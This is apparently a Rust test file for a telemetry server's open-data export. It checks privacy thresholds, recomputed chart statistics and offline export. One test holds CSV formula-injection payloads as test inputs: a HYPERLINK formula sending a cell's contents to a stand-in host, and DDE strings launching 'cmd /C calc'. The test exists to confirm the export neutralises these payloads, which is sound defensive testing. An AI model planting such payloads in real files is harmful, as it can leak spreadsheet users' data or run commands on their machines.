//! Open data: `/data/` and its files hold exactly the published aggregates (nothing under the
//! threshold, nothing derivable by subtraction); a chart's numbers are recomputed from the
//! downloaded CSV alone; `tally-server export` writes the same bytes offline from the store.

use std::collections::BTreeMap;
use std::process::Command;

use crate::support::*;
use axum::http::StatusCode;
use tally_protocol::aggregate::ProgramWeek;
use tally_server::open_data::WeekData;

const MONDAY: &str = "2026-11-16";

/// 12 reports: invocations in all, build in 9, test in 6, `--release` in 3 (under the
/// threshold of 5); versions 1.95.0 ×8, 1.94.0 ×3, 1.80.0 ×1 (both withheld).
async fn seeded(store: &std::path::Path) -> tally_server::AppState {
    let state = Collector::new().state(store, 5).await.unwrap();
    for i in 0..12u64 {
        let mut counters = vec![("cargo/invocations", 2 + i)];
        if i < 9 {
            counters.push(("cargo/subcommand:build", 1));
        }
        if i % 2 == 0 {
            counters.push(("cargo/subcommand:test", 3));
        }
        if i < 3 {
            counters.push(("cargo/build/flag:--release", 1));
        }
        let version = match i {
            0..8 => "1.95.0",
            8..11 => "1.94.0",
            _ => "1.80.0",
        };
        // x at most 0.5: the flag counters' rate.
        let (status, text) =
            upload(&state, &report((i + 1) as f64 / 100.0, version, &counters)).await;
        assert_eq!(status, StatusCode::OK, "{text}");
    }
    state
}

/// The 95% Wilson interval, written out here so the check owes nothing to the server's code.
fn wilson(successes: f64, n: f64) -> (f64, f64) {
    let z = 1.959_963_984_540_054_f64;
    let p = successes / n;
    let denom = 1.0 + z * z / n;
    let center = (p + z * z / (2.0 * n)) / denom;
    let half = z * (p * (1.0 - p) / n + z * z / (4.0 * n * n)).sqrt() / denom;
    ((center - half).max(0.0), (center + half).min(1.0))
}

/// The `data-value` of every drawn point of the series `name` on a page.
fn charted_values(html: &str, name: &str) -> Vec<f64> {
    let marker = format!("data-series=\"{name}\"");
    let mut values = Vec::new();
    for part in html.split(&marker).skip(1) {
        let group = &part[..part.find("</g>").unwrap_or(part.len())];
        for value in group.split("data-value=\"").skip(1) {
            values.push(value[..value.find('"').unwrap()].parse().unwrap());
        }
    }
    values
}

#[tokio::test]
async fn the_files_hold_exactly_the_published_aggregates() {
    let store = tempfile::tempdir().unwrap();
    let state = seeded(store.path()).await;

    let (status, index) = call(&state, "GET", "/data/", vec![]).await;
    assert_eq!(status, StatusCode::OK);
    let index = String::from_utf8(index).unwrap();
    assert!(
        index.contains(&format!("href=\"{MONDAY}.json\"")),
        "{index}"
    );
    assert!(index.contains(&format!("href=\"{MONDAY}.csv\"")));
    assert!(index.contains("CC-BY-4.0"));
    assert!(
        index.contains("open to uploads until 2026-12-13"),
        "{index}"
    );

    let (status, json) = call(&state, "GET", &format!("/data/{MONDAY}.json"), vec![]).await;
    assert_eq!(status, StatusCode::OK);
    let data: WeekData = serde_json::from_slice(&json).unwrap();
    assert_eq!(
        (data.schema.as_str(), data.licence.as_str()),
        ("tally-open-data/1", "CC-BY-4.0")
    );
    assert_eq!(
        (data.reports, data.threshold, data.is_final, data.simulated),
        (12, 5, false, false)
    );
    let (_, api) = call(&state, "GET", &format!("/api/weeks/{MONDAY}/cargo"), vec![]).await;
    let api: ProgramWeek = serde_json::from_slice(&api).unwrap();
    assert_eq!(
        data.programs,
        vec![api.clone()],
        "the file is the API's publication"
    );
    for text in [
        &json[..],
        &call(&state, "GET", &format!("/data/{MONDAY}.csv"), vec![])
            .await
            .1[..],
    ] {
        let text = String::from_utf8_lossy(text);
        assert!(
            !text.contains("--release"),
            "a counter under the threshold was published"
        );
        assert!(
            !text.contains("1.94.0") && !text.contains("1.80.0"),
            "a withheld version"
        );
    }

    // A reader with only the CSV recomputes the dashboard's numbers.
    let (_, csv_bytes) = call(&state, "GET", &format!("/data/{MONDAY}.csv"), vec![]).await;
    assert!(csv_bytes.starts_with(b"# tally-open-data/1"));
    let mut reader = csv::ReaderBuilder::new()
        .comment(Some(b'#'))
        .from_reader(&csv_bytes[..]);
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, tally_server::open_data::CSV_COLUMNS);
    let (_, page) = call(&state, "GET", "/programs/cargo", vec![]).await;
    let page = String::from_utf8(page).unwrap();
    let mut counters = BTreeMap::new();
    for row in reader.records() {
        let row = row.unwrap();
        let field = |name: &str| {
            row.get(header.iter().position(|h| h == name).unwrap())
                .unwrap()
                .to_owned()
        };
        if field("dimension") != "counter" {
            continue;
        }
        let (with, of): (f64, f64) = (
            field("reports").parse().unwrap(),
            field("program_reports").parse().unwrap(),
        );
        let share = with / of;
        let (low, high) = wilson(with, of);
        assert!((share - field("share").parse::<f64>().unwrap()).abs() < 1e-12);
        assert!((low - field("low").parse::<f64>().unwrap()).abs() < 1e-9);
        assert!((high - field("high").parse::<f64>().unwrap()).abs() < 1e-9);
        // The dashboard charts this very share.
        let charted = charted_values(&page, &field("name"));
        assert!(
            charted.iter().any(|v| (v - share).abs() < 1e-12),
            "{}: recomputed {share}, charted {charted:?}",
            field("name")
        );
        counters.insert(field("name"), share);
    }
    assert_eq!(counters.len(), 3, "{counters:?}");
    assert_eq!(counters["cargo/subcommand:build"], 0.75);

    for (path, status) in [
        ("/data/2026-11-17.json", StatusCode::NOT_FOUND),
        ("/data/2020-01-06.csv", StatusCode::NOT_FOUND),
        ("/data/2026-11-16.txt", StatusCode::NOT_FOUND),
        ("/data", StatusCode::PERMANENT_REDIRECT),
    ] {
        assert_eq!(call(&state, "GET", path, vec![]).await.0, status, "{path}");
    }

    // Offline, from the store: the same bytes.
    state.flush().await.unwrap();
    let out = tempfile::tempdir().unwrap();
    for format in ["csv", "json"] {
        tally_test_support::command::ok(
            Command::new(BIN)
                .args(["export", "--since", "2026-11-18", "--threshold", "5"])
                .args(["--format", format, "--store"])
                .arg(store.path())
                .arg("--out")
                .arg(out.path())
                .env("TALLY_NOW", TODAY),
        );
        let served = call(&state, "GET", &format!("/data/{MONDAY}.{format}"), vec![])
            .await
            .1;
        let exported = std::fs::read(out.path().join(format!("{MONDAY}.{format}"))).unwrap();
        assert_eq!(
            String::from_utf8(exported).unwrap(),
            String::from_utf8(served).unwrap()
        );
    }
    // Weeks before --since are left out.
    let later = Command::new(env!("CARGO_BIN_EXE_tally-server"))
        .args(["export", "--since", "2026-11-23", "--format", "json"])
        .arg("--store")
        .arg(store.path())
        .env("TALLY_NOW", TODAY)
        .output()
        .unwrap();
    assert!(later.status.success());
    assert_eq!(String::from_utf8_lossy(&later.stdout).trim(), "[]");
}

/// A CSV cell a spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`, a tab or
/// a carriage return: the OWASP rule) is written with a leading `'`; numbers and every other
/// cell are left as they are, and the JSON file keeps the names as the config gives them.
/// The config is the collector's own, and load checks every stored report against it, so only
/// a config naming such a counter or OS can put one in a file. Fails if the cells go out as
/// they are.
#[tokio::test]
async fn the_csv_never_holds_a_formula() {
    let formulas = [
        "=HYPERLINK(\"https://zqsecret.example/?\"&A1,\"zqsecret\")",
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    let mut config: serde_json::Value = serde_json::from_str(EXAMPLE_CONFIG).unwrap();
    let cargo = &mut config["programs"][0];
    assert_eq!(cargo["name"], "cargo");
    for name in formulas {
        cargo["counters"]
            .as_array_mut()
            .unwrap()
            .push(serde_json::json!({ "name": name, "rate": 1.0 }));
    }
    config["os"].as_array_mut().unwrap().push("=os()".into());
    let collector = Collector::with_config(&serde_json::to_string_pretty(&config).unwrap());
    let store = tempfile::tempdir().unwrap();
    let state = collector.state(store.path(), 1).await.unwrap();
    let mut counters: Vec<(&str, u64)> = formulas.iter().map(|f| (*f, 2)).collect();
    counters.push(("cargo/invocations", 3));
    let mut r = report(0.5, "1.95.0", &counters);
    r.programs[0].os = "=os()".into();
    let (status, text) = upload(&state, &r).await;
    assert_eq!(status, StatusCode::OK, "{text}");

    let (_, csv_bytes) = call(&state, "GET", &format!("/data/{MONDAY}.csv"), vec![]).await;
    let mut reader = csv::ReaderBuilder::new()
        .comment(Some(b'#'))
        .from_reader(&csv_bytes[..]);
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    let mut names = Vec::new();
    for row in reader.records() {
        let row = row.unwrap();
        for (column, cell) in header.iter().zip(row.iter()) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{column}: {cell:?} would run in a spreadsheet"
            );
            if [
                "program_reports",
                "reports",
                "share",
                "low",
                "high",
                "total",
            ]
            .contains(&column.as_str())
                && !cell.is_empty()
            {
                assert!(
                    cell.parse::<f64>().is_ok_and(|n| n >= 0.0),
                    "{column}: {cell:?}"
                );
            }
        }
        names.push(row.get(5).unwrap().to_owned());
    }
    for formula in formulas {
        assert!(
            names.contains(&format!("'{formula}")),
            "{formula:?} not written as '{formula:?}: {names:?}"
        );
    }
    assert!(names.contains(&"'=os()".to_string()), "{names:?}");
    assert!(names.contains(&"cargo/invocations".to_string()));
    // The JSON file is not a spreadsheet: the names as the config gives them.
    let (_, json) = call(&state, "GET", &format!("/data/{MONDAY}.json"), vec![]).await;
    let data: WeekData = serde_json::from_slice(&json).unwrap();
    let cargo = &data.programs[0];
    for formula in formulas {
        assert!(
            cargo.counters.iter().any(|c| c.name == formula),
            "{formula:?}"
        );
    }
}
